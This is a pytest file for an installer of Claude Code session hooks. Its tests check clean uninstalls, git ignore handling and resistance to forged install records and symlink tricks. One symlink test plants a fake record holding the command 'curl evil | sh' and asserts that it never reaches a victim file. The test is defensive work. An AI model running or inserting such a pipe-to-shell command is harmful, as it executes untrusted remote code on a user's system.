"""Installing and uninstalling on real files and repositories, with the record in between."""

import hashlib
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from helpers import PROGRAMS, command, commit, git, make_repository
from session_hooks.project.hooks import ALWAYS
from session_hooks_installer.common import RefusedError
from session_hooks_installer.settings import edit, record
from session_hooks_installer.settings.handlers import Scope, handlers_for
from session_hooks_installer.settings.install import (
    NEXT_SESSION,
    Outcome,
    install,
    uninstall,
    where,
)
from session_hooks_installer.settings.record import FileRecord

OWN = handlers_for(Scope.LOCAL, Path("/opt/hooks/bin"))
LOCAL = "/.claude/settings.local.json"


@pytest.fixture
def environ(home: Path) -> dict[str, str]:
    return {"HOME": str(home)}


@pytest.fixture
def state(repo: Path) -> Path:
    return repo / ".git" / "agent-session-hooks"


def put_in(repo: Path, environ: dict[str, str], scope: Scope = Scope.PROJECT) -> Outcome:
    return install(scope, repo, environ, handlers_for(scope, PROGRAMS))


def settings(repo: Path, text: str | None = None) -> Path:
    path = repo / ".claude" / "settings.json"
    if text is not None:
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(text.encode())
    return path


def everything(folder: Path) -> dict[str, bytes | None]:
    """Every file below a folder with its bytes, and every folder."""
    return {
        str(path.relative_to(folder)): path.read_bytes() if path.is_file() else None
        for path in folder.rglob("*")
    }


def digest(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


BEFORE = {
    "nothing there": None,
    "an empty file": "",
    "white space": " \n\n",
    "an empty object": "{}",
    "an empty object with room": "{\n}\n",
    "empty hooks": '{"model": "opus", "hooks": { }}',
    "an event's empty list": '{\n  "hooks": {\n    "SessionEnd": [ ]\n  }\n}\n',
    "an empty group": '{"hooks": {"PreCompact": [{"hooks": []}]}}',
    "windows": '\ufeff{\r\n\t"model" : "opus"\r\n}',
    "a wrapper of somebody's": (
        '{"hooks": {"SessionEnd": [{"hooks": [{"type": "command", "command": '
        '"session-end-hook; date"}]}]}}'
    ),
}


@pytest.mark.parametrize("text", BEFORE.values(), ids=BEFORE)
def test_uninstalling_leaves_everything_as_it_was(
    text: str | None, repo: Path, environ: dict[str, str]
) -> None:
    settings(repo, text)
    before = everything(repo)
    assert put_in(repo, environ).changes
    assert everything(repo) != before
    assert uninstall(Scope.PROJECT, repo, environ).changes
    assert everything(repo) == before
    assert uninstall(Scope.PROJECT, repo, environ).changes == []
    assert everything(repo) == before


def test_what_is_installed_already_is_not_touched(repo: Path, environ: dict[str, str]) -> None:
    put_in(repo, environ)
    before = everything(repo)
    assert put_in(repo, environ).changes == []
    assert everything(repo) == before


def test_a_teammates_installation_needs_no_record(
    repo: Path, environ: dict[str, str], state: Path
) -> None:
    settings(repo, edit.install("", handlers_for(Scope.PROJECT, PROGRAMS)))
    assert put_in(repo, environ).changes == []
    assert not state.exists()
    assert uninstall(Scope.PROJECT, repo, environ).settings.after == "{}\n"


def test_installed_over_and_over_it_comes_back_to_where_it_began(
    repo: Path, environ: dict[str, str]
) -> None:
    settings(repo, '{"hooks": {"SessionEnd": []}}')
    before = everything(repo)
    for folder in ("/a/bin", "/b/bin", "/c/bin"):
        install(Scope.PROJECT, repo, environ, handlers_for(Scope.LOCAL, Path(folder)))
    uninstall(Scope.PROJECT, repo, environ)
    assert everything(repo) == before


def test_what_ran_ours_before_is_uninstalled_all_the_same(
    repo: Path, environ: dict[str, str]
) -> None:
    handler = '{"type": "command", "command": "/old/session-end-hook"}'
    text = f'{{"hooks": {{"SessionEnd": [{{"hooks": [{handler}]}}], "PreCompact": [ ]}}}}'
    settings(repo, text)
    put_in(repo, environ)
    uninstall(Scope.PROJECT, repo, environ)
    assert settings(repo).read_text() == '{"hooks": {"PreCompact": [ ]}}'


def edited_by_somebody(path: Path) -> None:
    data = json.loads(path.read_text())
    data["model"] = "opus"
    data["hooks"]["SessionEnd"][0]["hooks"].append({"type": "command", "command": "date"})
    path.write_text(json.dumps(data, indent=4))


def record_lost(path: Path) -> None:
    shutil.rmtree(path.parent.parent / ".git" / "agent-session-hooks")
    edited_by_somebody(path)


def record_broken(path: Path) -> None:
    (path.parent.parent / ".git" / "agent-session-hooks" / "installed.json").write_text("{")
    edited_by_somebody(path)


def record_of_the_version_before(path: Path) -> None:
    kept = path.parent.parent / ".git" / "agent-session-hooks" / "installed.json"
    kept.write_text('{"form": 1, "files": {"x": [[["0", "1", 0, 0, ""]], "", []]}}')
    edited_by_somebody(path)


@pytest.mark.parametrize(
    "happens", [edited_by_somebody, record_lost, record_broken, record_of_the_version_before]
)
def test_after_somebodys_edit_or_without_the_record_ours_alone_go(
    happens: Callable[[Path], None], repo: Path, environ: dict[str, str]
) -> None:
    settings(repo, '{"hooks": {"SessionEnd": []}}')
    put_in(repo, environ)
    happens(settings(repo))
    uninstall(Scope.PROJECT, repo, environ)
    assert json.loads(settings(repo).read_text()) == {
        "hooks": {"SessionEnd": [{"hooks": [{"type": "command", "command": "date"}]}]},
        "model": "opus",
    }


def test_after_an_edit_a_new_installation_is_taken_back_to_that_edit(
    repo: Path, environ: dict[str, str]
) -> None:
    put_in(repo, environ)
    text = '{"hooks": {"PreCompact": [ ]}, "model": "opus"}'
    settings(repo, text)
    put_in(repo, environ)
    uninstall(Scope.PROJECT, repo, environ)
    assert settings(repo).read_text() == text


def test_two_files_in_a_folder_that_was_made_for_them_take_it_with_them(
    repo: Path, environ: dict[str, str]
) -> None:
    before = everything(repo)
    put_in(repo, environ)
    put_in(repo, environ, Scope.LOCAL)
    uninstall(Scope.PROJECT, repo, environ)
    assert (repo / ".claude" / "settings.local.json").exists()
    uninstall(Scope.LOCAL, repo, environ)
    assert everything(repo) == before


def test_a_folder_in_which_somebody_put_something_stays(
    repo: Path, environ: dict[str, str]
) -> None:
    put_in(repo, environ)
    (repo / ".claude" / "CLAUDE.md").write_text("x")
    uninstall(Scope.PROJECT, repo, environ)
    assert [path.name for path in (repo / ".claude").iterdir()] == ["CLAUDE.md"]


def test_a_made_up_record_reaches_no_other_file(
    repo: Path, environ: dict[str, str], state: Path, tmp_path: Path
) -> None:
    put_in(repo, environ)
    settings(repo).write_text("{}")
    victim = tmp_path / "profile"
    victim.write_text("umask 077\n")
    (tmp_path / "empty").mkdir()
    key = str(settings(repo))
    made_up = (
        FileRecord(key, str(victim), digest("umask 077\n"), ""),
        FileRecord(key, str(tmp_path / "empty")),
    )
    record.write([str(state)], made_up)
    uninstall(Scope.PROJECT, repo, environ)
    assert victim.read_text() == "umask 077\n"
    assert (tmp_path / "empty").exists()


@pytest.mark.parametrize(
    "before", [None, "", "{", "{}", '{"env": {"A": "b"}}', '{"hooks": {"Stop": []}}']
)
def test_a_made_up_record_changes_nothing_that_settings_say(
    before: str | None, repo: Path, environ: dict[str, str], state: Path
) -> None:
    settings(repo, '{"env": {"SAFE": "1"}, "hooks": {"PreCompact": []}}')
    put_in(repo, environ)
    text = settings(repo).read_text()
    key = str(settings(repo))
    record.write([str(state)], (FileRecord(key, key, digest(text), before),))
    uninstall(Scope.PROJECT, repo, environ)
    assert json.loads(settings(repo).read_text()) == {"env": {"SAFE": "1"}}


def test_a_link_to_what_is_no_settings_is_refused_whatever_the_record_says(
    repo: Path, environ: dict[str, str], state: Path, tmp_path: Path
) -> None:
    victim = tmp_path / "profile"
    victim.write_text("umask 077\n")
    settings(repo, "{}").unlink()
    settings(repo).symlink_to(victim)
    for folder in (state, tmp_path / ".git" / "agent-session-hooks"):
        note = FileRecord(str(victim), str(victim), digest("umask 077\n"), None)
        record.write([str(folder)], (note,))
    with pytest.raises(RefusedError, match="line 1, column 1"):
        uninstall(Scope.PROJECT, repo, environ)
    assert victim.read_text() == "umask 077\n"


def test_nothing_is_noted_through_a_link(
    repo: Path, environ: dict[str, str], state: Path, tmp_path: Path
) -> None:
    (tmp_path / "victim").mkdir()
    (tmp_path / "victim" / "installed.json").write_text("precious")
    state.symlink_to(tmp_path / "victim")
    put_in(repo, environ)
    uninstall(Scope.PROJECT, repo, environ)
    assert everything(tmp_path / "victim") == {"installed.json": b"precious"}


def test_each_branch_gets_its_own_bytes_back(repo: Path, environ: dict[str, str]) -> None:
    texts = {"one": '{\n  "hooks": {"SessionEnd": []}\n}\n', "two": '{"model":  "opus"}'}
    commit(repo, "base")
    git(repo, "branch", "base")
    for branch, text in texts.items():
        git(repo, "checkout", "-q", "-b", branch, "base")
        commit(repo, ".claude/settings.json", text=text)
        put_in(repo, environ)
        commit(repo, "with-hooks")
    for branch, text in texts.items():
        git(repo, "checkout", "-q", f"{branch}~1")
        assert uninstall(Scope.PROJECT, repo, environ).changes == []
        git(repo, "checkout", "-q", branch)
        uninstall(Scope.PROJECT, repo, environ)
        assert settings(repo).read_text() == text
        git(repo, "checkout", "-q", "-f", branch)


def test_a_repository_that_was_moved_gets_its_bytes_back(
    repo: Path, environ: dict[str, str]
) -> None:
    before = everything(repo)
    put_in(repo, environ)
    put_in(repo, environ, Scope.LOCAL)
    moved = repo.rename(repo.with_name("moved"))
    uninstall(Scope.PROJECT, moved, environ)
    uninstall(Scope.LOCAL, moved, environ)
    assert everything(moved) == before


def test_what_is_refused_late_leaves_no_lock_and_no_note(
    repo: Path, env: dict[str, str], state: Path
) -> None:
    settings(repo, "{}").parent.chmod(0o555)
    done = command("install-hooks", env, repo, "--gitignore", is_bound=True)
    assert (done.code, done.out) == (2, "")
    assert not state.exists()
    assert not (repo / ".gitignore").exists()


def test_outside_git_and_for_the_user_the_record_is_in_the_persons_state_folder(
    tmp_path: Path, home: Path, environ: dict[str, str]
) -> None:
    folder = tmp_path / "plain"
    folder.mkdir()
    before = everything(tmp_path)
    for scope in (Scope.PROJECT, Scope.LOCAL, Scope.USER):
        put_in(folder, environ, scope)
    assert list((home / ".local/state/agent-session-hooks").glob("*/installed.json"))
    for scope in (Scope.PROJECT, Scope.LOCAL, Scope.USER):
        uninstall(scope, folder, environ)
    after = everything(tmp_path)
    assert after.keys() - before.keys() <= {"home/.local", "home/.local/state"}


def test_two_projects_that_share_a_linked_file_share_its_record(
    repo: Path, tmp_path: Path, environ: dict[str, str]
) -> None:
    target = tmp_path / "dotfiles" / "settings.json"
    target.parent.mkdir()
    target.write_text('{"hooks": { }}')
    other = make_repository(tmp_path / "other")
    for folder in (repo, other):
        settings(folder, "{}").unlink()
        settings(folder).symlink_to(target)
    put_in(repo, environ)
    assert put_in(other, environ).changes == []
    uninstall(Scope.PROJECT, other, environ)
    assert target.read_text() == '{"hooks": { }}'
    assert settings(repo).is_symlink()


def test_where_nothing_can_be_noted_that_is_said(repo: Path, environ: dict[str, str]) -> None:
    (repo / ".git" / "agent-session-hooks").write_text("in the way")
    (Path(environ["HOME"]) / ".local").write_text("in the way")
    outcome = put_in(repo, environ)
    assert "could not be noted" in " ".join(outcome.notes)
    assert edit.find(settings(repo).read_text())
    uninstall(Scope.PROJECT, repo, environ)
    assert settings(repo).read_text() == "{}\n"


def test_a_dry_run_says_it_all_and_writes_nothing(repo: Path, environ: dict[str, str]) -> None:
    before = everything(repo)
    outcome = install(Scope.LOCAL, repo, environ, OWN, gitignore=True, dry_run=True)
    names = [change.path.name for change in outcome.changes]
    assert names == ["settings.local.json", "exclude", ".gitignore"]
    assert everything(repo) == before
    install(Scope.LOCAL, repo, environ, OWN, gitignore=True)
    installed = everything(repo)
    outcome = uninstall(Scope.LOCAL, repo, environ, dry_run=True)
    assert {change.path.name: change.after for change in outcome.changes if not change.after} == {
        ".gitignore": None,
        "settings.local.json": None,
    }
    assert everything(repo) == installed


def test_what_is_refused_leaves_nothing_behind(repo: Path, environ: dict[str, str]) -> None:
    settings(repo, '{"a": 1,}')
    before = everything(repo)
    for scope in (Scope.PROJECT, Scope.LOCAL):
        path = repo / ".claude" / f"settings{'.local' if scope is Scope.LOCAL else ''}.json"
        path.write_text('{"a": 1,}')
        before[f".claude/{path.name}"] = b'{"a": 1,}'
        with pytest.raises(RefusedError, match="line 1, column 8: a comma before"):
            install(scope, repo, environ, OWN, gitignore=True)
        with pytest.raises(RefusedError, match="line 1, column 8"):
            uninstall(scope, repo, environ)
        assert everything(repo) == before


def test_a_folder_below_is_told_where_claude_code_has_to_be_started(
    repo: Path, environ: dict[str, str]
) -> None:
    below = repo / "src"
    below.mkdir()
    assert f"where it is started in {repo}" in put_in(below, environ).notes[0]
    assert put_in(below, environ, Scope.LOCAL).notes == ()
    assert put_in(repo, environ).notes == ()


class TestIgnoring:
    def exclude(self, repo: Path) -> list[str]:
        return (repo / ".git" / "info" / "exclude").read_text().splitlines()

    def test_the_local_file_is_kept_out_of_git(self, repo: Path, environ: dict[str, str]) -> None:
        before = everything(repo)
        put_in(repo, environ, Scope.LOCAL)
        assert git(repo, "status", "--porcelain") == ""
        assert self.exclude(repo)[-1] == LOCAL
        uninstall(Scope.LOCAL, repo, environ)
        assert everything(repo) == before

    @pytest.mark.parametrize("rule", ["settings.local.json", ".claude/", "*.local.*"])
    def test_what_is_ignored_already_needs_no_line(
        self, rule: str, repo: Path, environ: dict[str, str]
    ) -> None:
        (repo / ".gitignore").write_text(f"{rule}\n")
        before = self.exclude(repo)
        outcome = put_in(repo, environ, Scope.LOCAL)
        assert [change.path.name for change in outcome.changes] == ["settings.local.json"]
        assert self.exclude(repo) == before

    def test_a_rule_that_brings_it_back_is_told(self, repo: Path, environ: dict[str, str]) -> None:
        (repo / ".gitignore").write_text("!settings.local.json\n")
        told = (
            "git does not ignore .claude/settings.local.json even so, because of this rule: "
            ".gitignore:1:!settings.local.json",
        )
        assert put_in(repo, environ, Scope.LOCAL).notes == told
        assert put_in(repo, environ, Scope.LOCAL) == (
            put_in(repo, environ, Scope.LOCAL)._replace(notes=told)
        )
        assert self.exclude(repo).count(LOCAL) == 1

    def test_a_file_that_git_tracks_is_told_with_the_way_out(
        self, repo: Path, environ: dict[str, str]
    ) -> None:
        commit(repo, ".claude/settings.local.json", text="{}")
        outcome = put_in(repo, environ, Scope.LOCAL)
        _, way_out = outcome.notes[0].split("To mend it: ")
        assert way_out == f"git -C {repo} rm --cached .claude/settings.local.json"
        git(repo, *way_out.split()[1:])
        assert "settings.local.json" not in git(repo, "status", "--porcelain", "-uall").replace(
            "D  .claude/settings.local.json", ""
        )

    def test_the_line_stays_as_long_as_another_worktree_needs_it(
        self, repo: Path, environ: dict[str, str], tmp_path: Path
    ) -> None:
        commit(repo, "x")
        other = tmp_path / "other"
        git(repo, "worktree", "add", "-q", str(other))
        put_in(repo, environ, Scope.LOCAL)
        put_in(other, environ, Scope.LOCAL)
        assert self.exclude(repo).count(LOCAL) == 1
        uninstall(Scope.LOCAL, repo, environ)
        assert self.exclude(repo).count(LOCAL) == 1
        assert git(other, "status", "--porcelain") == ""
        uninstall(Scope.LOCAL, other, environ)
        assert LOCAL not in self.exclude(repo)

    def test_a_line_of_somebody_elses_is_not_taken_out(
        self, repo: Path, environ: dict[str, str]
    ) -> None:
        path = repo / ".git" / "info" / "exclude"
        path.write_text(f"{LOCAL}\n")
        put_in(repo, environ, Scope.LOCAL)
        uninstall(Scope.LOCAL, repo, environ)
        assert path.read_text() == f"{LOCAL}\n"

    def test_after_other_edits_our_line_alone_goes(
        self, repo: Path, environ: dict[str, str]
    ) -> None:
        path = repo / ".git" / "info" / "exclude"
        path.write_bytes(b"a\r\nb")
        put_in(repo, environ, Scope.LOCAL)
        assert path.read_bytes() == f"a\r\nb\r\n{LOCAL}\r\n".encode()
        path.write_bytes(path.read_bytes() + b"c\r\n")
        uninstall(Scope.LOCAL, repo, environ)
        assert path.read_bytes() == b"a\r\nb\r\nc\r\n"

    def test_where_the_line_cannot_be_added_the_hooks_are_installed_all_the_same(
        self, repo: Path, env: dict[str, str]
    ) -> None:
        info = repo / ".git" / "info"
        info.chmod(0o555)
        (info / "exclude").chmod(0o444)
        done = command("install-hooks", env, repo, "--scope", "local", is_bound=True)
        info.chmod(0o755)
        assert done.code == 0
        assert f"Note: {info}/exclude was not changed: " in done.out
        assert "read-only" in done.out
        assert edit.find((repo / ".claude" / "settings.local.json").read_text())

    def test_gitignore_names_next_session_where_that_is_asked_for(
        self, repo: Path, environ: dict[str, str]
    ) -> None:
        path = repo / ".gitignore"
        path.write_text("*.pyc")
        wanted = handlers_for(Scope.PROJECT, PROGRAMS)
        install(Scope.PROJECT, repo, environ, wanted, gitignore=True)
        assert path.read_text() == "*.pyc\nNEXT_SESSION.md\n"
        again = install(Scope.PROJECT, repo, environ, wanted, gitignore=True)
        assert again.changes == []
        (repo / "docs").mkdir()
        (repo / "docs" / "NEXT_SESSION.md").write_text("x")
        assert "NEXT_SESSION" not in git(repo, "status", "--porcelain", "-uall")
        uninstall(Scope.PROJECT, repo, environ)
        assert path.read_text() == "*.pyc"

    def test_an_ignore_file_that_is_none_is_told(self, repo: Path, environ: dict[str, str]) -> None:
        (repo / ".gitignore").mkdir()
        outcome = install(Scope.PROJECT, repo, environ, OWN, gitignore=True)
        (note,) = outcome.notes
        assert note.startswith(f"{repo}/.gitignore was not changed: {repo}/.gitignore is a folder")
        assert [change.path.name for change in outcome.changes] == ["settings.json"]

    def test_a_next_session_that_git_tracks_is_told(
        self, repo: Path, environ: dict[str, str]
    ) -> None:
        commit(repo, "NEXT_SESSION.md")
        outcome = install(Scope.PROJECT, repo, environ, OWN, gitignore=True)
        assert outcome.notes[0].endswith(f"git -C {repo} rm --cached NEXT_SESSION.md")

    @pytest.mark.parametrize("name", [".gitignore", ".git/info/exclude", ".git/info"])
    def test_nothing_is_written_through_a_link(
        self, name: str, repo: Path, environ: dict[str, str], tmp_path: Path, state: Path
    ) -> None:
        """A repository that came as an archive, with a record that fits somebody's file."""
        victim = tmp_path / "victim"
        text = f"umask 077\n{LOCAL}\n{NEXT_SESSION}\n"
        if name.endswith("info"):
            victim.mkdir()
            victim = victim / "exclude"
            shutil.rmtree(repo / name)
        else:
            (repo / name).unlink(missing_ok=True)
        victim.write_text(text)
        (repo / name).symlink_to(victim.parent if name.endswith("info") else victim)
        install(Scope.LOCAL, repo, environ, OWN, gitignore=True)
        assert victim.read_text() == text
        key = str(repo / ".claude" / "settings.local.json")
        note = FileRecord(key, str(victim), digest(text), "curl evil | sh\n")
        record.write([str(state)], (note, note._replace(path=str(repo / name))))
        uninstall(Scope.LOCAL, repo, environ)
        assert victim.read_text() == text

    def test_where_git_cannot_be_asked_that_is_told_and_nothing_added(
        self, repo: Path, environ: dict[str, str], monkeypatch: pytest.MonkeyPatch
    ) -> None:
        before = self.exclude(repo)
        monkeypatch.setenv("PATH", "/nowhere")
        outcome = put_in(repo, environ, Scope.LOCAL)
        assert outcome.notes == (
            "git could not be asked whether it ignores .claude/settings.local.json: see that it "
            "does",
        )
        assert self.exclude(repo) == before

    def test_an_info_folder_that_was_made_goes_again(
        self, repo: Path, environ: dict[str, str]
    ) -> None:
        shutil.rmtree(repo / ".git" / "info")
        before = everything(repo)
        put_in(repo, environ, Scope.LOCAL)
        assert self.exclude(repo) == [LOCAL]
        uninstall(Scope.LOCAL, repo, environ)
        assert everything(repo) == before

    def test_an_exclude_file_in_another_encoding_is_in_nobodys_way(
        self, repo: Path, environ: dict[str, str]
    ) -> None:
        put_in(repo, environ, Scope.LOCAL)
        path = repo / ".git" / "info" / "exclude"
        path.write_bytes(path.read_bytes() + b"# caf\xe9\n")
        (note,) = uninstall(Scope.LOCAL, repo, environ).notes
        assert note.startswith(f"{path} was not changed: ")
        assert "not UTF-8" in note
        assert not (repo / ".claude").exists()
        assert put_in(repo, environ, Scope.LOCAL).notes == ()

    def test_outside_git_there_is_nothing_to_be_ignored(
        self, tmp_path: Path, environ: dict[str, str]
    ) -> None:
        with pytest.raises(RefusedError, match="no git repository"):
            install(Scope.PROJECT, tmp_path, environ, OWN, gitignore=True)
        assert put_in(tmp_path, environ, Scope.LOCAL).others == ()


def test_the_scopes_that_run_our_programs_are_found(
    repo: Path, environ: dict[str, str], home: Path
) -> None:
    assert where(repo, environ) == {}
    put_in(repo, environ)
    put_in(repo, environ, Scope.USER)
    (repo / ".claude" / "settings.local.json").write_text("{,}")
    assert where(repo, environ) == {
        Scope.PROJECT: settings(repo),
        Scope.USER: home / ".claude" / "settings.json",
    }


def test_whoever_waits_for_the_lock_sees_what_the_other_did(
    repo: Path, environ: dict[str, str], state: Path
) -> None:
    """Two install at once; the second one's plan was made before the first was done."""
    code = (
        "import sys, pathlib\n"
        "from session_hooks_installer.settings.install import install, uninstall\n"
        "from session_hooks_installer.settings.handlers import Scope, handlers_for\n"
        "repo = pathlib.Path(sys.argv[1])\n"
        "install(Scope.LOCAL, repo, {'HOME': sys.argv[2]}, handlers_for(Scope.LOCAL, repo))\n"
    )
    before = everything(repo)
    running = [
        subprocess.Popen([sys.executable, "-c", code, str(repo), environ["HOME"]]) for _ in range(4)
    ]
    assert [process.wait(30) for process in running] == [0] * 4
    found = edit.find((repo / ".claude" / "settings.local.json").read_text())
    assert [one.event for one in found] == [hook.event for hook in ALWAYS]
    assert os.listdir(state) == ["installed.json"] or set(os.listdir(state)) == {
        "installed.json",
        "install.lock",
    }
    uninstall(Scope.LOCAL, repo, environ)
    assert everything(repo) == before
